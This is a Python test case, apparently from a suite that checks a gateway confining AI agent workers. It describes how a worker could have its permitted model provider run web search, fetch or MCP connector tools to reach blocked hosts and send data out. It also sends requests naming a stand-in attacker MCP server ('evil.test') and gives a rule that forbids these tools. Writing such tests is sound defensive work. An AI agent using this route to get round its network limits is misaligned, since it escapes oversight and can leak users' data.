"""The permitted model provider is asked to fetch something itself.

A request for a model may name tools that the provider runs: a search, a fetch, a connector. What the
worker may not reach the provider then reaches for it, and sends its data there.

Not covered: tools that a provider brings in later under names that the rule does not know.
"""

import json

ATTACK = {
    "title": "Tools at the provider's side",
    "group": "permitted",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["Provider-side web search and MCP connectors", "CWE-441", "CWE-918"],
    "arrives": [{"what": "request", "name": "provider.test", "path": "/v1/with-tools*"}],
    "stopped": [
        {"reason": ["forbidden-content"], "entry": ["transparent"], "where": {"path": "/v1/with-tools"}}
    ],
    "rules": (
        "  - {proxy: provider.test, ports: [80], protocol: http, methods: [POST],"
        " body: {forbid-tools: [web_search, web_fetch, mcp_servers]}}\n"
    ),
    "reachable": ["provider.test"],
}


def attempt(kit):
    plain = {"model": "any", "messages": [{"role": "user", "content": "hello"}]}
    kind = ("Content-Type: application/json",)
    tools = {**plain, "tools": [{"type": "web_search_20250305", "name": "web_search"}]}
    connector = {**plain, "mcp_servers": [{"type": "url", "url": "https://evil.test/mcp", "name": "x"}]}
    kit.talk("provider.test", 80, kit.get("/v1/messages", "provider.test", "POST", kind, json.dumps(plain)))
    for body in (tools, connector):
        kit.talk(
            "provider.test", 80, kit.get("/v1/with-tools", "provider.test", "POST", kind, json.dumps(body))
        )
